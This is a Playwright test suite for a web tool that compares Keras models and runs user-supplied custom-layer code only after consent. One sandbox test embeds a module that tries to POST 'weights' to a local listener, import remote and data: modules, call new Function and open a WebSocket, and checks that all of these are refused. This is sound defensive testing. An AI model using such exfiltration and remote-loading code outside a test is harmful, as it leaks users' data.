import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expectVerdict } from './support/openPair.ts';
import { expect, expectAccessible, expectNoSideways, test } from './support/page.ts';
import { FIXTURES } from './support/paths.ts';
import { savedReport } from './support/savedReport.ts';

const A = join(FIXTURES, 'good/custom-layer-k315-v3.keras');
const SAME = join(FIXTURES, 'good/custom-layer-k215-v3.keras');
const CHANGED = join(FIXTURES, 'odd/custom-layer-changed.keras');

const RIGHT = `export function ScaleAndShift(x, { config, weights, tf }) {
  return tf.add(tf.mul(x, tf.pow(weights['vars/0'], config.power)), weights['vars/1']);
}`;

/** The console tells of code that throws. */
const noisy = { annotation: { type: 'noisy', description: 'the browser logs what it refuses' } };

const file = (source: string, name = 'layers.mjs') => ({
  name,
  mimeType: 'text/javascript',
  buffer: Buffer.from(source),
});

async function openModels(page: Page, b = SAME): Promise<void> {
  await page.goto('/?backend=wasm');
  await page.getByLabel('Model A', { exact: true }).setInputFiles(A);
  await expect(page.locator('[data-drop="a"]')).toHaveAttribute('data-step', 'open');
  await page.getByLabel('Model B', { exact: true }).setInputFiles(b);
  await expectVerdict(page);
}

/** The engine answers questions about single values. */
async function openFirstVariable(page: Page): Promise<void> {
  await page.locator('[role=row]:is([data-state=different])').first().click();
  await expect(page.getByRole('heading', { name: 'Distribution' })).toBeVisible();
}

/** Another machine, which writes down whatever reaches it. */
async function listen() {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const stop = () => new Promise((resolve) => server.close(resolve));
  return { url: `http://127.0.0.1:${port}`, heard, stop };
}

const question = (page: Page) => page.getByRole('dialog', { name: 'Run this code?' });

async function supply(page: Page, source: string): Promise<void> {
  await page.getByLabel('Custom layers', { exact: true }).setInputFiles(file(source));
  await question(page).getByRole('button', { name: 'Run this code' }).click();
}

const verdict = (page: Page) => page.getByRole('region', { name: 'Verdict' });

test('Custom layers run after the user agreed, and the report says so', async ({ page }) => {
  await openModels(page, CHANGED);
  await expect(verdict(page).getByRole('note')).toContainText('own');
  await page.getByRole('tab', { name: 'Predictions' }).click();
  await expect(page.getByRole('tabpanel').getByRole('note')).toContainText(
    'No output could be compared. Layer own (ScaleAndShift)',
  );
  await expect(page.getByRole('table', { name: 'Samples, flips first' })).toHaveCount(0);
  await page.getByRole('tab', { name: 'Layers' }).click();
  await supply(page, RIGHT);
  await expect(verdict(page).getByRole('definition').last()).toHaveText('3 of 3');
  await expectVerdict(page, 'different');
  const report = await savedReport(page);
  expect(report.a.notes.map(({ message }) => message)).toContainEqual(
    expect.stringContaining('runs with code from layers.mjs'),
  );
  expect(report.runs[0]?.firstDivergent).toBe('after');
});

test('Nothing of a module runs before the answer, nor after a no; keys are enough to answer', async ({
  page,
}) => {
  await openModels(page);
  const before = page.workers().length;
  await page.getByLabel('Custom layers', { exact: true }).setInputFiles(file(RIGHT));
  const dialog = question(page);
  await expect(dialog).toContainText('layers.mjs');
  await expect(dialog).toContainText('3 lines');
  await expect(dialog).toContainText('runs on this machine');
  await expect(dialog.getByRole('button', { name: 'Cancel' })).toBeFocused();
  await expectAccessible(page);
  expect(page.workers().length).toBe(before);
  await page.keyboard.press('Enter');
  await expect(dialog).toHaveCount(0);
  await expectVerdict(page, 'inconclusive');
  expect(page.workers().length).toBe(before);

  await page.getByLabel('Custom layers', { exact: true }).setInputFiles(file(RIGHT));
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await expectVerdict(page, 'equivalent');
});

test('A module that is dropped anywhere is asked about, and Escape is a no', async ({ page }) => {
  await openModels(page);
  const dropped = await page.evaluateHandle((source) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([source], 'dropped.js', { type: 'text/javascript' }));
    return transfer;
  }, RIGHT);
  await page.dispatchEvent('main', 'drop', { dataTransfer: dropped });
  await expect(question(page)).toContainText('dropped.js');
  await page.keyboard.press('Escape');
  await expect(question(page)).toHaveCount(0);
});

const REFUSED = [
  ['does not parse', 'export function ScaleAndShift( {', 'no JavaScript module'],
  ['throws while it loads', 'throw new Error("not today")', 'not today'],
  ['imports another file', 'import "./other.js"; export const x = () => 1;', 'must stand in this one file'],
  ['exports no function', 'export const ScaleAndShift = 3;', 'is none'],
] as const;

for (const [what, source, says] of REFUSED) {
  test(`A module that ${what} is refused by name, and what was open stays open`, noisy, async ({ page }) => {
    await openModels(page, CHANGED);
    const headline = await page.getByRole('heading', { level: 1 }).textContent();
    await supply(page, source);
    await expect(verdict(page).getByRole('alert')).toContainText('layers.mjs');
    await expect(verdict(page).getByRole('alert')).toContainText(says);
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(headline ?? '');
    await page.getByRole('tab', { name: /Weights/ }).click();
    await openFirstVariable(page);
  });
}

const WRONG = [
  ['throws', '() => { throw new Error("no weights"); }', 'no weights'],
  ['returns no tensor', '() => 7', 'must return one tensor'],
  ['returns a promise', 'async (x) => x', 'must return one tensor'],
] as const;

for (const [what, code, says] of WRONG) {
  test(`A layer whose code ${what} is named, and nothing is claimed`, async ({ page }) => {
    await openModels(page);
    await supply(page, `export const ScaleAndShift = ${code};`);
    await expect(page.getByRole('heading', { level: 1 })).toContainText(says);
    await expectVerdict(page, 'inconclusive');
  });
}

test('A layer whose code returns a wrong shape is named at the layer that cannot take it', async ({
  page,
}) => {
  await openModels(page);
  await supply(page, 'export const ScaleAndShift = (x, { tf }) => tf.slice(x, [0, 0], [-1, 2]);');
  await expect(page.getByRole('heading', { level: 1 })).toContainText('after');
  await expectVerdict(page, 'inconclusive');
});

test(
  'Supplied code reaches no other machine, evaluates nothing and imports nothing',
  noisy,
  async ({ page }) => {
    const other = await listen();
    await openModels(page);
    await supply(
      page,
      `const tried = async (job) => { try { await job(); return 'did'; } catch { return 'refused'; } };
     const there = ${JSON.stringify(other.url)};
     const all = await Promise.all([
       tried(() => fetch(there, { method: 'POST', mode: 'no-cors', body: 'weights' })),
       tried(() => import(there + '/x.js?weights')),
       tried(() => import('data:text/javascript,export default 1')),
       tried(() => new Function('return 1')()),
       tried(() => new Promise((ok, no) => {
         const socket = new WebSocket(there.replace('http', 'ws'));
         socket.onopen = ok;
         socket.onerror = no;
       })),
     ]);
     export const ScaleAndShift = () => { throw new Error(all.join(' ')); };`,
    );
    await expect(page.getByRole('heading', { level: 1 })).toContainText(
      'refused refused refused refused refused',
    );
    expect(other.heard).toEqual([]);
    // The ear works: what nobody forbids is heard.
    await page.request.get(`${other.url}/here`);
    expect(other.heard).toEqual(['/here']);
    await other.stop();
  },
);

test('Custom layers are taken away again, and their worker with them', async ({ page }) => {
  await openModels(page);
  await supply(page, RIGHT);
  await expectVerdict(page, 'equivalent');
  await page
    .getByRole('banner')
    .getByRole('button', { name: /custom-layer-k315-v3/ })
    .click();
  await page.getByRole('menuitem', { name: /Files and inputs/ }).click();
  const files = page.getByRole('dialog', { name: 'Files and inputs' });
  await expect(files).toContainText('ScaleAndShift');
  await expectAccessible(page);
  await files.getByRole('button', { name: 'Remove custom layers' }).click();
  await files.getByRole('button', { name: 'Close' }).click();
  await expectVerdict(page, 'inconclusive');
  expect(page.workers().some((worker) => worker.url().startsWith('blob:'))).toBe(false);
});

test('Code that never ends is stopped by Cancel, and the page goes on', async ({ page }) => {
  await openModels(page, CHANGED);
  await supply(page, 'export const ScaleAndShift = () => { for (;;) {} };');
  await page.getByRole('button', { name: /Cancel/ }).click();
  await expect(verdict(page)).toContainText('Stopped');
  // The same files, other code: that they are compared shows that nothing is stuck.
  await supply(page, RIGHT);
  await expectVerdict(page, 'different');
  await expect(verdict(page).getByRole('definition').last()).toHaveText('3 of 3');
});

test('A layer is treated as identity, which is said and proves nothing, and taken back', async ({ page }) => {
  await openModels(page);
  await verdict(page).getByRole('button', { name: 'Treat as identity' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toContainText('own was treated as identity');
  await expectVerdict(page, 'inconclusive');
  await expect(verdict(page).getByRole('note')).toContainText('nothing here is proven about it');
  await expect(page.getByRole('row', { name: /own.*not run/ })).toBeVisible();
  await expectAccessible(page);
  const { settings, a, runs } = await savedReport(page);
  expect(settings.identity).toEqual(['own']);
  expect(a.notes.map(({ code }) => code)).toContain('treated-as-identity');
  expect(runs[0]?.coverage).toEqual({ executed: 2, total: 3 });
  await verdict(page).getByRole('button', { name: 'No longer treat as identity' }).click();
  await expect(verdict(page).getByRole('button', { name: 'Treat as identity' })).toBeVisible();
  await expect(page.getByRole('heading', { level: 1 })).toContainText('cannot be run here');
});

test('The row of a custom layer offers the same, with keys, in light, dark and narrow', async ({ page }) => {
  await openModels(page, CHANGED);
  await page.getByRole('row', { name: /^own/ }).click();
  await page.getByRole('treegrid', { name: 'Layers' }).press('Enter');
  const detail = page.getByRole('region', { name: 'Details of own' });
  await expect(detail.getByRole('button', { name: /Supply custom layers/ })).toBeVisible();
  for (const colorScheme of ['light', 'dark'] as const) {
    await page.emulateMedia({ colorScheme });
    await expectAccessible(page);
  }
  await page.setViewportSize({ width: 360, height: 800 });
  await expectNoSideways(page);
  await expectAccessible(page);
  await detail.getByRole('button', { name: 'Treat as identity' }).focus();
  await page.keyboard.press('Enter');
  await expectVerdict(page, 'different');
  await expect(page.getByText('own is treated as identity.')).toBeVisible();
});

test('A recorded output stands in for a custom layer, and the page says so', async ({ page }) => {
  await page.goto('/?backend=wasm');
  await page.getByLabel('Model A', { exact: true }).setInputFiles(A);
  await expect(page.locator('[data-drop="a"]')).toHaveAttribute('data-step', 'open');
  await page.getByLabel('Recorded predictions', { exact: true }).setInputFiles({
    name: 'reference.npz',
    mimeType: 'application/octet-stream',
    buffer: readFileSync(join(FIXTURES, 'odd/custom-layer-recorded.npz')),
  });
  await expectVerdict(page, 'equivalent');
  await page.getByRole('tab', { name: /Versions/ }).click();
  await expect(page.getByRole('tabpanel')).toContainText(
    'was not computed: its recorded output in reference.npz was taken',
  );
});
